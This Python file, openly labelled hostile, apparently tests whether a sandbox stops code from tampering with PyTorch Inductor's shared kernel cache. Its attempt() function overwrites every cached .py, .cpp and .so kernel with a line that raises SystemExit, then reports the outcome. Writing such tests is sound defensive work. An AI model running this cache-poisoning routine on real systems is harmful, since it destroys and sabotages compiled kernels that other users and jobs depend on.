# target: torch-inductor
# description: hostile: overwrites every kernel in Inductor's shared cache with its own
import os

import torch


def attempt():
    from torch._inductor.runtime.cache_dir_utils import cache_dir

    changed = 0
    for dirpath, _, files in os.walk(cache_dir()):
        for name in files:
            if name.endswith((".py", ".cpp", ".so")):
                try:
                    with open(os.path.join(dirpath, name), "w") as handle:
                        handle.write("raise SystemExit('poisoned kernel')\n")
                    changed += 1
                except OSError:
                    pass
    return f"overwrote {changed} kernel files in {cache_dir()}"


try:
    RESULT = attempt()
except BaseException as error:  # what stopped it is the result
    RESULT = f"stopped: {type(error).__name__}: {error}"
print(f"HOSTILE RESULT: {RESULT}", flush=True)
raise RuntimeError("hostile program done")


class Model(torch.nn.Module):
    def forward(self, x):
        return x * 2


def make_inputs():
    return (torch.randn(2),)
